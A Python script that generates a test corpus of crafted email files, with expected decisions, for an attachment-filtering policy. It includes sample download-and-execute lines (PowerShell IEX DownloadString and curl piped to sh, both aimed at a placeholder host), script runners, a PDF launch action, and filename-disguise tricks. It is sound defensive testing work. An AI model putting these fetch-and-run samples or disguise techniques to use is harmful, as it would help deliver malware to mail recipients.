# ruff: noqa: E501 -- a table of cases: one case per line reads better than wrapped
"""Build the policies/ test corpus: crafted .eml files, each with its expected decision.

    python tests/data/policies/make_corpus.py OUT_DIR

writes OUT_DIR/<case>.eml and OUT_DIR/expected.json ({case: {"action", "rules"}}:
the action the built-in default policy must take and rules that must be among the
violations). The tests run `build()` into a temporary directory, so the corpus is
always regenerated from this file.
"""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import itertools
import json
import struct
import sys
import tarfile
import tempfile
import uuid
import zipfile
from collections.abc import Callable
from email.header import Header
from pathlib import Path

VN_NAME = "Công văn số 123.pdf"
PDF = (
    b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
    b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
    + b"% padding to a realistic size\n" * 200
    + b"trailer\n<< /Root 1 0 R >>\n%%EOF\n"
)
SIGNED_PDF = PDF.replace(
    b"trailer",
    b"3 0 obj\n<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached "
    b"/ByteRange [0 100 200 300] /Contents <3082> >>\nendobj\n"
    b"4 0 obj\n<< /FT /Sig /V 3 0 R /T (Signature1) >>\nendobj\ntrailer",
)
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48 + b"PE\x00\x00"
ELF = b"\x7fELF\x02\x01\x01" + b"\x00" * 57
MACHO = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 56
LNK = b"L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00F" + b"\0" * 56
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b"\x00" * 32
JS = b'var sh = new ActiveXObject("WScript.Shell");\nsh.Run("calc.exe");\n'
VBS = b'Dim s\nSet s = CreateObject("WScript.Shell")\ns.Run "calc.exe"\n'
PS1 = b"$c = New-Object Net.WebClient\nIEX ($c.DownloadString('http://x/a'))\n"
BAT = b"@echo off\r\nset X=1\r\nstart calc.exe\r\n"
HTA = b'<html><head><HTA:APPLICATION ID="x"/><script>alert(1)</script></head></html>'
SH = b"#!/bin/sh\ncurl http://x/a | sh\n"


# --- containers -------------------------------------------------------------------

def zip_of(members: dict[str, bytes], *, encrypted: bool = False) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members.items():
            info = zipfile.ZipInfo(name, date_time=(2026, 11, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            zf.writestr(info, data)
    raw = out.getvalue()
    if encrypted:
        # set the "encrypted" flag (bit 0) in every local and central header.
        buf = bytearray(raw)
        for sig, off in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
            pos = buf.find(sig)
            while pos >= 0:
                buf[pos + off] |= 1
                pos = buf.find(sig, pos + 4)
        raw = bytes(buf)
    return raw


def ooxml(kind: str, *, macros: bool = False, signed: bool = False) -> bytes:
    top = {"docx": "word", "xlsx": "xl", "pptx": "ppt"}[kind]
    members = {
        "[Content_Types].xml": b'<?xml version="1.0"?><Types/>',
        "_rels/.rels": b'<?xml version="1.0"?><Relationships/>',
        f"{top}/document.xml": b'<?xml version="1.0"?><document>Cong van</document>',
    }
    if macros:
        members[f"{top}/vbaProject.bin"] = ole({"VBA/dir": b"\x01" * 10})
    if signed:
        members["_xmlsignatures/origin.sigs"] = b""
        members["_xmlsignatures/sig1.xml"] = (
            b'<Signature xmlns="http://www.w3.org/2000/09/xmldsig#"><SignedInfo/>'
            b"<SignatureValue>AAAA</SignatureValue><KeyInfo><X509Data><X509Certificate>"
            b"MIIB</X509Certificate></X509Data></KeyInfo></Signature>"
        )
    return zip_of(members)


def ole_package(label: str, data: bytes) -> bytes:
    """An OLE "Package" object (what Word embeds for a dragged-in file)."""
    native = (label.encode() + b"\0" + b"C:\\tmp\\" + label.encode() + b"\0" + b"\0" * 8
              + b"C:\\tmp\\" + label.encode() + b"\0" + struct.pack("<I", len(data)) + data)
    native = struct.pack("<IH", len(native) + 2, 2) + native
    return ole({"\x01Ole10Native": native})


def docx_with_object(obj: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zf:
        zf.writestr("[Content_Types].xml", b"<Types/>")
        zf.writestr("word/document.xml", b"<document/>")
        zf.writestr("word/embeddings/oleObject1.bin", obj)
    return out.getvalue()


def odt() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zf:
        zf.writestr("mimetype", b"application/vnd.oasis.opendocument.text")
        zf.writestr("META-INF/manifest.xml", b"<manifest/>")
        zf.writestr("content.xml", b"<office:document-content/>")
    return out.getvalue()


def ole(streams: dict[str, bytes], *, clsid: str | None = None) -> bytes:
    """A minimal compound file (MS-CFB v3): storages from the paths, streams padded to
    4096 bytes so they live in the regular FAT (no mini stream needed)."""
    entries: list[tuple[str, int, bytes, int | None]] = [("Root Entry", 5, b"", None)]
    index: dict[str, int] = {"": 0}
    children: dict[int, list[int]] = {0: []}
    for path, data in streams.items():
        parts = path.split("/")
        parent = 0
        for depth in range(1, len(parts)):
            key = "/".join(parts[:depth])
            if key not in index:
                index[key] = len(entries)
                entries.append((parts[depth - 1], 1, b"", None))
                children[parent].append(index[key])
                children[index[key]] = []
            parent = index[key]
        entries.append((parts[-1], 2, data.ljust(4096, b"\0"), None))
        children[parent].append(len(entries) - 1)
    sectors: list[bytes] = []
    starts: list[int] = []
    fat: list[int] = []
    n_dir = (len(entries) + 3) // 4
    # sector 0: FAT; 1..n_dir: directory; then stream data.
    fat.append(0xFFFFFFFD)
    for k in range(n_dir):
        fat.append(0xFFFFFFFE if k == n_dir - 1 else len(fat) + 1)
    for _, kind, data, _ in entries:
        if kind != 2:
            starts.append(0xFFFFFFFE)
            continue
        starts.append(len(fat))
        count = len(data) // 512
        for k in range(count):
            fat.append(0xFFFFFFFE if k == count - 1 else len(fat) + 1)
        sectors += [data[k * 512 : (k + 1) * 512] for k in range(count)]
    assert len(fat) <= 128, "test OLE files fit one FAT sector"
    fat_sector = struct.pack("<128I", *(fat + [0xFFFFFFFF] * (128 - len(fat))))
    right: dict[int, int] = {}
    child: dict[int, int] = {}
    for parent, kids in children.items():
        if kids:
            child[parent] = kids[0]
            for a, b in itertools.pairwise(kids):
                right[a] = b
    dir_bytes = b""
    for i, (name, kind, data, _) in enumerate(entries):
        encoded = (name + "\0").encode("utf-16-le")
        clsid_bytes = uuid.UUID(clsid).bytes_le if (i == 0 and clsid) else b"\0" * 16
        dir_bytes += (
            encoded.ljust(64, b"\0") + struct.pack("<HBB", len(encoded), kind, 1)
            + struct.pack("<III", 0xFFFFFFFF, right.get(i, 0xFFFFFFFF), child.get(i, 0xFFFFFFFF))
            + clsid_bytes + b"\0" * 20
            + struct.pack("<IQ", starts[i], len(data) if kind == 2 else 0)
        )
    dir_bytes = dir_bytes.ljust(n_dir * 512, b"\0")
    empty = (b"\0" * 64 + struct.pack("<HBB", 0, 0, 0) + struct.pack("<III", *([0xFFFFFFFF] * 3))
             + b"\0" * 36 + struct.pack("<IQ", 0, 0))
    dir_bytes = dir_bytes[: len(entries) * 128] + empty * (n_dir * 4 - len(entries))
    header = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16
        + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + b"\0" * 6
        + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
        + struct.pack("<109I", 0, *([0xFFFFFFFF] * 108))
    )
    return header + fat_sector + dir_bytes + b"".join(sectors)


def tar_of(members: dict[str, bytes], mode: str = "w") -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode=mode) as tf:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
    return out.getvalue()


def sevenzip_of(members: dict[str, bytes]) -> bytes:
    import libarchive

    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "a.7z"
        with libarchive.file_writer(str(path), "7zip") as archive:
            for name, data in members.items():
                archive.add_file_from_memory(name, len(data), data)
        return path.read_bytes()


def tnef_of(name: str, data: bytes) -> bytes:
    def attr(level: int, attr_id: int, value: bytes) -> bytes:
        return (struct.pack("<BII", level, attr_id, len(value)) + value
                + struct.pack("<H", sum(value) & 0xFFFF))
    return (
        b"\x78\x9f\x3e\x22" + b"\x01\x00"
        + attr(1, 0x00089006, b"\x01\x00\x00\x00")
        + attr(2, 0x00069002, b"\x00" * 14)
        + attr(2, 0x00018010, name.encode("cp1252") + b"\0")
        + attr(2, 0x0006800F, data)
    )


def opaque_signed(inner: bytes) -> bytes:
    """An opaque S/MIME signed message (application/pkcs7-mime; smime-type=signed-data)."""
    import datetime

    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec
    from cryptography.hazmat.primitives.serialization import pkcs7
    from cryptography.x509.oid import NameOID

    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "vanthu@sotc.example.gov.vn")])
    now = datetime.datetime(2026, 11, 1, tzinfo=datetime.UTC)
    cert = (x509.CertificateBuilder().subject_name(name).issuer_name(name)
            .public_key(key.public_key()).serial_number(1).not_valid_before(now)
            .not_valid_after(now + datetime.timedelta(days=365)).sign(key, hashes.SHA256()))
    der = (pkcs7.PKCS7SignatureBuilder().set_data(inner).add_signer(cert, key, hashes.SHA256())
           .sign(serialization.Encoding.DER, [pkcs7.PKCS7Options.Binary]))
    return raw_message(
        'Content-Type: application/pkcs7-mime; smime-type=signed-data; name="smime.p7m"\r\n'
        "Content-Transfer-Encoding: base64\r\n\r\n" + b64(der))


def nested_zip(levels: int, inner: dict[str, bytes]) -> bytes:
    data = zip_of(inner)
    for k in range(levels):
        data = zip_of({f"level{k}.zip": data})
    return data


# --- messages ---------------------------------------------------------------------

BOUNDARY = "----=_congvu_test_0001"
HEAD = (
    "From: Van thu <vanthu@sotc.example.gov.vn>\r\nTo: ubnd@example.gov.vn\r\n"
    "Subject: test\r\nDate: Sun, 01 Nov 2026 08:00:00 +0700\r\n"
    "Message-ID: <t@example.gov.vn>\r\nMIME-Version: 1.0\r\n"
)


def b64(data: bytes) -> str:
    return base64.encodebytes(data).decode().replace("\n", "\r\n")


def part(data: bytes, headers: str, *, encoding: str = "base64") -> str:
    body = b64(data) if encoding == "base64" else data.decode("latin-1")
    cte = f"Content-Transfer-Encoding: {encoding}\r\n" if encoding else ""
    return f"{headers}{cte}\r\n{body}"


def attachment(data: bytes, filename: str, ctype: str = "application/octet-stream") -> str:
    return part(data, f'Content-Type: {ctype}\r\nContent-Disposition: attachment; '
                f'filename="{filename}"\r\n')


def message(*parts: str, head: str = HEAD, boundary: str = BOUNDARY) -> bytes:
    text = part(b"Kinh gui ong/ba, xem tep dinh kem.\r\n",
                'Content-Type: text/plain; charset="utf-8"\r\n', encoding="7bit")
    body = "".join(f"--{boundary}\r\n{p}\r\n" for p in (text, *parts))
    out = (f'{head}Content-Type: multipart/mixed; boundary="{boundary}"\r\n\r\n'
           f"{body}--{boundary}--\r\n")
    return out.encode("utf-8", "surrogateescape")


def raw_message(text: str) -> bytes:
    return (HEAD + text).encode("utf-8")


def nested_multipart(levels: int, leaf: str) -> bytes:
    body = leaf
    for k in range(levels):
        b = f"b{k}"
        body = f'Content-Type: multipart/mixed; boundary="{b}"\r\n\r\n--{b}\r\n{body}\r\n--{b}--\r\n'
    return (HEAD + body).encode()


def nested_rfc822(levels: int, leaf: str) -> bytes:
    body = leaf
    for _ in range(levels):
        body = f"Content-Type: message/rfc822\r\n\r\n{body}"
    return (HEAD + body).encode()


def rfc2231(name: str) -> str:
    from urllib.parse import quote

    return f"filename*=utf-8''{quote(name.encode('utf-8'))}"


def rfc2231_continued(name: str) -> str:
    from urllib.parse import quote

    encoded = quote(name.encode("utf-8"))
    # split inside a multi-byte character: the decoder must join bytes first.
    cut = encoded.index("%") + 3
    return f"filename*0*=utf-8''{encoded[:cut]};\r\n filename*1*={encoded[cut:]}"


def rfc2047(name: str) -> str:
    return Header(name, "utf-8").encode()


def pdf_with(extra: bytes) -> bytes:
    return PDF.replace(b"trailer", extra + b"\ntrailer")


def objstm_pdf() -> bytes:
    import zlib

    stream = zlib.compress(b"5 0 << /S /JavaScript /JS (app.alert(1)) >>")
    return pdf_with(b"6 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length "
                    + str(len(stream)).encode() + b" >>\nstream\n" + stream + b"\nendstream\nendobj")


def _build_cases() -> dict[str, tuple[Callable[[], bytes], str, list[str]]]:
    A, R, Q, T = "accept", "reject", "quarantine", "tag"
    vn_pdf = "Content-Type: application/pdf\r\nContent-Disposition: attachment; "
    c: dict[str, tuple[Callable[[], bytes], str, list[str]]] = {
        # clean mail, which must pass untouched
        "clean-text-only": (lambda: message(), A, []),
        "clean-vn-rfc2231": (lambda: message(part(PDF, vn_pdf + rfc2231(VN_NAME) + "\r\n")), A, []),
        "clean-vn-rfc2231-continued": (
            lambda: message(part(PDF, vn_pdf + rfc2231_continued(VN_NAME) + "\r\n")), A, []),
        "clean-vn-rfc2047": (
            lambda: message(part(PDF, vn_pdf + f'filename="{rfc2047(VN_NAME)}"\r\n')), A, []),
        "clean-vn-rfc2047-name-param": (
            lambda: message(part(PDF, f'Content-Type: application/pdf; name="{rfc2047(VN_NAME)}"\r\n')),
            A, []),
        "clean-vn-raw-utf8": (lambda: message(attachment(PDF, VN_NAME, "application/pdf")), A, []),
        "clean-vn-nfd": (lambda: message(attachment(
            PDF, __import__("unicodedata").normalize("NFD", VN_NAME), "application/pdf")), A, []),
        "clean-docx": (lambda: message(attachment(ooxml("docx"), "Bao cao.docx")), A, []),
        "clean-xlsx": (lambda: message(attachment(ooxml("xlsx"), "So lieu.xlsx")), A, []),
        "clean-odt": (lambda: message(attachment(odt(), "Van ban.odt")), A, []),
        "clean-png": (lambda: message(attachment(PNG, "anh.png", "image/png")), A, []),
        "clean-zip-of-documents": (lambda: message(attachment(
            zip_of({"a.pdf": PDF, "b.docx": ooxml("docx"), "c/anh.png": PNG}), "ho so.zip")), A, []),
        "clean-tgz-of-documents": (lambda: message(attachment(
            tar_of({"a.pdf": PDF}, "w:gz"), "ho so.tar.gz")), A, []),
        "signed-docx": (lambda: message(attachment(ooxml("docx", signed=True), "ky so.docx")), A, []),
        "signed-xlsx": (lambda: message(attachment(ooxml("xlsx", signed=True), "ky so.xlsx")), A, []),
        "signed-pdf": (lambda: message(attachment(SIGNED_PDF, "ky so.pdf", "application/pdf")), A, []),
        "clean-quoted-printable": (lambda: message(part(
            "Điều 1. Nội dung".encode(), 'Content-Type: text/plain; charset="utf-8"\r\n',
            encoding="quoted-printable")), A, []),
        # executables however they are named
        "exe-plain": (lambda: message(attachment(EXE, "setup.exe")), R,
                      ["blocked-extension", "blocked-type"]),
        "exe-named-pdf": (lambda: message(attachment(EXE, "hoa don.pdf", "application/pdf")), R,
                          ["blocked-type", "extension-mismatch"]),
        "exe-no-name": (lambda: message(part(EXE, "Content-Type: application/octet-stream\r\n")),
                        R, ["blocked-type"]),
        "exe-content-type-name": (lambda: message(part(
            b"hello", 'Content-Type: application/octet-stream; name="run.exe"\r\n')), R,
            ["blocked-extension"]),
        "exe-uppercase": (lambda: message(attachment(b"x", "SETUP.EXE")), R, ["blocked-extension"]),
        "exe-trailing-dots": (lambda: message(attachment(b"x", "setup.exe. . .")), R,
                              ["blocked-extension"]),
        "double-extension": (lambda: message(attachment(b"x", "report.pdf.exe")), R,
                             ["double-extension", "blocked-extension"]),
        "double-extension-spaces": (lambda: message(attachment(b"x", "report.pdf          .scr")),
                                    R, ["double-extension"]),
        "bidi-rlo": (lambda: message(attachment(b"x", "invoice\u202efdp.exe")), R,
                     ["bidi-in-name", "blocked-extension"]),
        "bidi-rlo-rfc2231": (lambda: message(part(
            b"x", "Content-Type: application/octet-stream\r\nContent-Disposition: attachment; "
            + rfc2231("photo\u202egpj.scr") + "\r\n")), R, ["bidi-in-name"]),
        "zero-width-ext": (lambda: message(attachment(b"x", "report.ex\u200be")), R,
                           ["blocked-extension", "lookalike-in-name"]),
        "lookalike-dot": (lambda: message(attachment(b"x", "report\u2024exe")), R,
                          ["blocked-extension", "lookalike-in-name"]),
        "fullwidth-ext": (lambda: message(attachment(b"x", "setup\uff0e\uff45\uff58\uff45")), R,
                          ["blocked-extension", "lookalike-in-name"]),
        "cyrillic-ext": (lambda: message(attachment(b"x", "setup.\u0435x\u0435")), R,
                         ["blocked-extension", "lookalike-in-name"]),
        "rfc2047-exe": (lambda: message(part(
            b"x", "Content-Type: application/octet-stream\r\nContent-Disposition: attachment; "
            f'filename="{rfc2047("Công văn.exe")}"\r\n')), R, ["blocked-extension"]),
        "elf": (lambda: message(attachment(ELF, "tool")), R, ["blocked-type"]),
        "macho": (lambda: message(attachment(MACHO, "tool.dmg.bin")), R, ["blocked-type"]),
        "lnk": (lambda: message(attachment(LNK, "Tai lieu")), R, ["blocked-type"]),
        "msi": (lambda: message(attachment(
            ole({"\u4840\u3f3f": b"x"}, clsid="000C1084-0000-0000-C000-000000000046"), "cai dat.dat")),
            R, ["blocked-type"]),
        "js-file": (lambda: message(attachment(JS, "a.js")), R, ["blocked-extension", "blocked-type"]),
        "js-as-txt": (lambda: message(attachment(JS, "ghi chu.txt", "text/plain")), R, ["blocked-type"]),
        "vbs-as-txt": (lambda: message(attachment(VBS, "ghi chu.txt", "text/plain")), R,
                       ["blocked-type"]),
        "powershell-as-txt": (lambda: message(attachment(PS1, "x.txt", "text/plain")), R,
                              ["blocked-type"]),
        "batch-as-txt": (lambda: message(attachment(BAT, "x.txt", "text/plain")), R, ["blocked-type"]),
        "hta-as-html": (lambda: message(attachment(HTA, "x.html", "text/html")), R, ["blocked-type"]),
        "shebang": (lambda: message(attachment(SH, "x.txt", "text/plain")), R, ["blocked-type"]),
        "utf16-powershell": (lambda: message(attachment(
            b"\xff\xfe" + PS1.decode().encode("utf-16-le"), "x.txt")), R, ["blocked-type"]),
        "docx-with-embedded-xlsx": (lambda: message(attachment(
            docx_with_object(ooxml("xlsx")), "bao cao.docx")), A, []),
        # executables packed or nested
        "exe-packaged-in-docx": (lambda: message(attachment(
            docx_with_object(ole_package("setup.exe", EXE)), "bao cao.docx")), R,
            ["blocked-extension", "blocked-type"]),
        "macro-xlsm-embedded-in-docx": (lambda: message(attachment(
            docx_with_object(ooxml("xlsx", macros=True)), "bao cao.docx")), Q, ["macro"]),
        "exe-in-zip": (lambda: message(attachment(zip_of({"docs/a.exe": EXE}), "a.zip")), R,
                       ["blocked-extension", "blocked-type"]),
        "exe-renamed-in-zip": (lambda: message(attachment(zip_of({"a.pdf": EXE}), "a.zip")), R,
                               ["blocked-type"]),
        "exe-in-nested-zip": (lambda: message(attachment(nested_zip(3, {"x.pdf": EXE}), "a.zip")),
                              R, ["blocked-type"]),
        "exe-in-tar-gz": (lambda: message(attachment(tar_of({"a.pdf": EXE}, "w:gz"), "a.tgz")), R,
                          ["blocked-type"]),
        "exe-in-tar-bz2": (lambda: message(attachment(tar_of({"a.pdf": EXE}, "w:bz2"), "a.tbz")),
                           R, ["blocked-type"]),
        "exe-in-gz": (lambda: message(attachment(gzip.compress(EXE), "a.pdf.gz")), R,
                      ["blocked-type"]),
        "exe-in-bz2": (lambda: message(attachment(bz2.compress(EXE), "a.bz2")), R, ["blocked-type"]),
        "exe-in-7z": (lambda: message(attachment(sevenzip_of({"a.pdf": EXE}), "a.7z")), R,
                      ["blocked-type"]),
        "exe-in-attached-message": (lambda: message(part(
            message(attachment(EXE, "a.pdf")), "Content-Type: message/rfc822\r\n", encoding="8bit")),
            R, ["blocked-type"]),
        "exe-in-base64-attached-message": (lambda: message(part(
            message(attachment(EXE, "a.pdf")), "Content-Type: message/rfc822\r\n")), R,
            ["blocked-type"]),
        "exe-uuencoded-in-body": (lambda: message(part(
            b"Xem tep:\r\nbegin 644 hoadon.pdf\r\n"
            + __import__("binascii").b2a_uu(EXE[:45]).replace(b"\n", b"\r\n")
            + b"`\r\nend\r\n", 'Content-Type: text/plain; charset="utf-8"\r\n', encoding="7bit")),
            R, ["blocked-type"]),
        "exe-in-tnef": (lambda: message(attachment(tnef_of("hoadon.pdf", EXE), "winmail.dat",
                                                   "application/ms-tnef")), R, ["blocked-type"]),
        # what cannot be inspected
        "macro-docm": (lambda: message(attachment(ooxml("docx", macros=True), "a.docm")), Q, ["macro"]),
        "macro-doc-ole": (lambda: message(attachment(
            ole({"WordDocument": b"\xec\xa5" + b"\0" * 20, "Macros/VBA/dir": b"\x01"}), "a.doc")),
            Q, ["macro"]),
        "macro-xls-in-zip": (lambda: message(attachment(zip_of({"b.xlsm": ooxml(
            "xlsx", macros=True)}), "a.zip")), Q, ["macro"]),
        "encrypted-ooxml": (lambda: message(attachment(ole({
            "EncryptionInfo": b"\x04\x00\x04\x00", "EncryptedPackage": b"\x00" * 100}), "a.docx")),
            Q, ["encrypted-office"]),
        "encrypted-doc": (lambda: message(attachment(
            ole({"WordDocument": b"\xec\xa5" + b"\0" * 9 + b"\x01" + b"\0" * 10}), "a.doc")),
            Q, ["encrypted-office"]),
        "encrypted-zip": (lambda: message(attachment(zip_of({"a.pdf": PDF}, encrypted=True),
                                                     "a.zip")), Q, ["encrypted-archive"]),
        "encrypted-zip-exe-name": (lambda: message(attachment(
            zip_of({"a.exe": b"x"}, encrypted=True), "a.zip")), R, ["blocked-extension"]),
        "pdf-javascript": (lambda: message(attachment(pdf_with(
            b"5 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj"), "a.pdf")), Q,
            ["pdf-javascript"]),
        "pdf-javascript-hex-name": (lambda: message(attachment(pdf_with(
            b"5 0 obj << /S /J#61vaScript /J#53 (x) >> endobj"), "a.pdf")), Q, ["pdf-javascript"]),
        "pdf-javascript-objstm": (lambda: message(attachment(objstm_pdf(), "a.pdf")), Q,
                                  ["pdf-javascript"]),
        "pdf-launch": (lambda: message(attachment(pdf_with(
            b"5 0 obj << /S /Launch /F (cmd.exe) >> endobj"), "a.pdf")), Q, ["pdf-javascript"]),
        "pdf-embedded-file": (lambda: message(attachment(pdf_with(
            b"5 0 obj << /Type /EmbeddedFile /Length 3 >> stream\nabc\nendstream endobj"), "a.pdf")),
            T, ["pdf-embedded-file"]),
        "smime-opaque-signed-clean": (lambda: opaque_signed(
            message(attachment(PDF, VN_NAME, "application/pdf"), head="")), A, []),
        "smime-opaque-signed-exe": (lambda: opaque_signed(
            message(attachment(EXE, "a.pdf"), head="")), R, ["blocked-type"]),
        "smime-opaque-signed-garbage": (lambda: raw_message(
            'Content-Type: application/pkcs7-mime; smime-type=signed-data\r\n'
            "Content-Transfer-Encoding: base64\r\n\r\n" + b64(b"\x30\x03\x02\x01\x01")),
            Q, ["malformed-mime"]),
        "smime-encrypted": (lambda: raw_message(
            'Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name="smime.p7m"\r\n'
            "Content-Transfer-Encoding: base64\r\n\r\n" + b64(b"\x30\x82\x01\x00" + b"\0" * 64)),
            T, ["smime-encrypted"]),
        # archive bombs and broken archives
        "zip-bomb-ratio": (lambda: message(attachment(zip_of({"a.txt": b"\0" * (8 << 20)}),
                                                      "a.zip")), Q, ["archive-limits"]),
        "zip-deep-nesting": (lambda: message(attachment(nested_zip(8, {"a.txt": b"x"}), "a.zip")),
                             Q, ["archive-limits"]),
        "gz-bomb": (lambda: message(attachment(gzip.compress(b"\0" * (8 << 20)), "a.gz")), Q,
                    ["archive-limits"]),
        "zip-bad-central-directory": (lambda: message(attachment(
            zip_of({"a.pdf": PDF})[:-30], "a.zip")), Q, ["unreadable-archive"]),
        "zip-bad-central-directory-exe": (lambda: message(attachment(
            zip_of({"a.pdf": PDF, "b/c.exe": EXE})[:-30], "a.zip")), R,
            ["unreadable-archive", "blocked-extension", "blocked-type"]),
        "zip-truncated-member": (lambda: message(attachment(
            zip_of({"a.pdf": PDF * 20})[:200] + zip_of({"a.pdf": PDF * 20})[-120:], "a.zip")),
            Q, []),
        # malformed MIME: a decision, never a crash
        "mime-no-boundary-param": (lambda: raw_message(
            "Content-Type: multipart/mixed\r\n\r\n--x\r\nContent-Type: text/plain\r\n\r\nhi\r\n--x--\r\n"),
            Q, ["malformed-mime"]),
        "mime-boundary-never-occurs": (lambda: raw_message(
            'Content-Type: multipart/mixed; boundary="abc"\r\n\r\nno parts here\r\n'), Q,
            ["malformed-mime"]),
        "mime-missing-close-boundary": (lambda: message(attachment(PDF, "a.pdf")).rsplit(
            b"--" + BOUNDARY.encode() + b"--", 1)[0], Q, ["malformed-mime"]),
        "mime-boundary-in-header-value": (lambda: raw_message(
            'Content-Type: multipart/mixed; boundary="abc"\r\n\r\n--abc\r\n'
            "Content-Type: text/plain\r\nX-Note: see\r\n--abc\r\nContent-Disposition: attachment; "
            'filename="a.pdf"\r\n\r\nhi\r\n--abc--\r\n'), Q, ["malformed-mime"]),
        "mime-nested-boundary-reuse": (lambda: raw_message(
            'Content-Type: multipart/mixed; boundary="abc"\r\n\r\n--abc\r\n'
            'Content-Type: multipart/mixed; boundary="ab"\r\n\r\n--ab\r\n'
            "Content-Type: text/plain\r\n\r\nhi\r\n--ab--\r\n--abc--\r\n"), Q, ["malformed-mime"]),
        "mime-duplicate-content-type": (lambda: raw_message(
            "Content-Type: text/plain\r\nContent-Type: multipart/mixed; boundary=\"z\"\r\n\r\n"
            "--z\r\n" + attachment(EXE, "a.pdf") + "\r\n--z--\r\n"), R,
            ["ambiguous-mime", "blocked-type"]),
        "mime-duplicate-disposition": (lambda: message(part(
            b"x", "Content-Type: application/octet-stream\r\nContent-Disposition: attachment; "
            'filename="a.pdf"\r\nContent-Disposition: attachment; filename="a.exe"\r\n')),
            R, ["ambiguous-mime", "blocked-extension"]),
        "mime-repeated-param": (lambda: message(part(
            b"x", "Content-Type: application/octet-stream\r\nContent-Disposition: attachment; "
            'filename="a.pdf"; filename="a.exe"\r\n')), R, ["ambiguous-mime", "blocked-extension"]),
        "mime-duplicate-cte": (lambda: message(
            "Content-Type: application/octet-stream\r\nContent-Disposition: attachment; "
            'filename="a.pdf"\r\nContent-Transfer-Encoding: 7bit\r\n'
            "Content-Transfer-Encoding: base64\r\n\r\n" + b64(EXE)), R,
            ["ambiguous-mime", "blocked-type"]),
        "mime-8bit-header-not-utf8": (lambda: message(
            "Content-Type: application/pdf\r\nContent-Disposition: attachment; "
            'filename="C\udcf4ng v\udce3n.pdf"\r\nContent-Transfer-Encoding: base64\r\n\r\n'
            + b64(PDF)), Q, ["malformed-mime"]),
        "mime-broken-base64": (lambda: message(
            "Content-Type: application/pdf\r\nContent-Disposition: attachment; filename=\"a.pdf\"\r\n"
            "Content-Transfer-Encoding: base64\r\n\r\n" + b64(PDF)[:-10] + "!!**\r\n"), Q,
            ["malformed-mime"]),
        "mime-base64-after-padding": (lambda: message(
            "Content-Type: application/pdf\r\nContent-Disposition: attachment; filename=\"a.txt\"\r\n"
            "Content-Transfer-Encoding: base64\r\n\r\n" + base64.b64encode(EXE[:2]).decode()
            + "\r\n" + b64(EXE[2:])), R, ["malformed-mime", "blocked-type"]),
        "mime-unknown-cte": (lambda: message(
            "Content-Type: application/pdf\r\nContent-Transfer-Encoding: x-secret\r\n\r\nabc"), Q,
            ["malformed-mime"]),
        "mime-header-garbage": (lambda: message(
            "Content-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\n"
            + b64(EXE)), R,
            ["malformed-mime", "blocked-type"]),
        "mime-nesting-1000": (lambda: nested_multipart(1000, "Content-Type: text/plain\r\n\r\nhi"),
                              Q, ["malformed-mime"]),
        "mime-rfc822-nesting-1000": (lambda: nested_rfc822(1000, "Content-Type: text/plain\r\n\r\nhi"),
                                     Q, ["malformed-mime"]),
        "mime-too-many-parts": (lambda: message(*[attachment(b"x", f"{k}.txt", "text/plain")
                                                  for k in range(1100)]), Q, ["malformed-mime"]),
        "too-many-attachments": (lambda: message(*[attachment(PNG, f"{k}.png", "image/png")
                                                   for k in range(60)]), Q, ["attachment-count"]),
        "mime-empty": (lambda: b"", A, []),
        "mime-headers-only": (lambda: HEAD.encode(), A, []),
    }
    return c


CASES = _build_cases()


def build(out: Path) -> dict[str, dict[str, object]]:
    """Write every case to `out` and return (and write) the expectations."""
    out.mkdir(parents=True, exist_ok=True)
    expected: dict[str, dict[str, object]] = {}
    for name, (make, action, rules) in CASES.items():
        (out / f"{name}.eml").write_bytes(make())
        expected[name] = {"action": action, "rules": rules}
    (out / "expected.json").write_text(json.dumps(expected, indent=1, sort_keys=True) + "\n")
    return expected


if __name__ == "__main__":
    build(Path(sys.argv[1] if len(sys.argv) > 1 else "corpus"))
